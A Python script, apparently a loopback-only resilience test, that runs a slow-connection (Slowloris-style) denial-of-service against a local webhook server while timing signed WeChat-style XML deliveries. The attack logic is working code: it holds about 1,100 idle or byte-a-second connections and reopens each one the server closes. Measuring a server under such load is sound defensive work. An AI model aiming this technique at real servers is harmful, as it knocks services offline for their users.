#!/usr/bin/env python3
"""Holds idle and slow connections open against a server while sending it real deliveries.

Half the connections send nothing; the other half send a request head one byte a second. Each
is opened again as soon as the server closes it, so the pressure stays. Meanwhile a signed
delivery goes out every 100 ms on a new connection, and its answer time is recorded.

    python3 attack.py PORT TOKEN [CONNECTIONS] [SECONDS]     (loopback only)

Prints one line per second (connections held, deliveries answered, the slowest) and a summary.
Bounded: it stops by itself after SECONDS, and targets 127.0.0.1 only.
"""
import asyncio
import hashlib
import sys
import time

HOST = "127.0.0.1"


def signed_query(token):
    timestamp, nonce = str(int(time.time())), "424242"
    signature = hashlib.sha1("".join(sorted([token, timestamp, nonce])).encode()).hexdigest()
    return f"signature={signature}&timestamp={timestamp}&nonce={nonce}"


def delivery(msg_id):
    return (
        "<xml><ToUserName><![CDATA[gh_account]]></ToUserName><FromUserName><![CDATA[oUser]]></FromUserName>"
        "<CreateTime>1348831860</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[hello]]></Content>"
        f"<MsgId>{msg_id}</MsgId></xml>"
    ).encode()


class Stats:
    def __init__(self):
        self.held = 0
        self.opened = 0
        self.closed_by_server = 0
        self.latencies = []
        self.failed = 0


async def hold(port, slow, stats, until):
    """One attacking connection, opened again whenever the server closes it."""
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        stats.opened += 1
        stats.held += 1
        try:
            head = b"POST / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000
            sent = 0
            while time.monotonic() < until:
                if slow and sent < len(head):
                    writer.write(head[sent:sent + 1])
                    sent += 1
                    await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=1.0)
                    if not data:
                        stats.closed_by_server += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            stats.closed_by_server += 1
        finally:
            stats.held -= 1
            writer.close()


async def deliver(port, token, msg_id, stats):
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), timeout=5)
        body = delivery(msg_id)
        writer.write(
            f"POST /?{signed_query(token)} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
            "Connection: close\r\n\r\n".encode() + body
        )
        answer = await asyncio.wait_for(reader.read(), timeout=5)
        writer.close()
        if not answer.startswith(b"HTTP/1.1 200") or b"hello" not in answer:
            raise RuntimeError(answer[:60])
        stats.latencies.append(time.monotonic() - started)
    except (OSError, asyncio.TimeoutError, RuntimeError):
        stats.failed += 1


async def main():
    port, token = int(sys.argv[1]), sys.argv[2]
    connections = int(sys.argv[3]) if len(sys.argv) > 3 else 1100
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 30
    stats = Stats()
    until = time.monotonic() + seconds
    holders = [asyncio.create_task(hold(port, n % 2 == 1, stats, until)) for n in range(connections)]
    await asyncio.sleep(2)  # let them all connect
    deliveries, msg_id, second = [], int(time.time()) * 1000, time.monotonic()
    while time.monotonic() < until - 5:
        msg_id += 1
        deliveries.append(asyncio.create_task(deliver(port, token, msg_id, stats)))
        await asyncio.sleep(0.1)
        if time.monotonic() - second >= 1:
            second = time.monotonic()
            slowest = max(stats.latencies[-10:], default=0)
            print(f"held {stats.held:5d}  opened {stats.opened:6d}  answered {len(stats.latencies):4d}  "
                  f"failed {stats.failed:3d}  slowest of the last 10 {slowest * 1000:7.1f} ms", flush=True)
    await asyncio.gather(*deliveries)
    for task in holders:
        task.cancel()
    await asyncio.gather(*holders, return_exceptions=True)
    lat = sorted(stats.latencies)
    pick = lambda p: lat[min(len(lat) - 1, int(p * (len(lat) - 1)))] * 1000 if lat else float("nan")
    print(f"summary: {connections} idle and slow connections held (opened {stats.opened} times, "
          f"closed by the server {stats.closed_by_server} times); deliveries answered {len(lat)}, "
          f"failed or unanswered within 5 s {stats.failed}; latency median {pick(0.5):.1f} ms, "
          f"p99 {pick(0.99):.1f} ms, max {pick(1.0):.1f} ms")


asyncio.run(main())
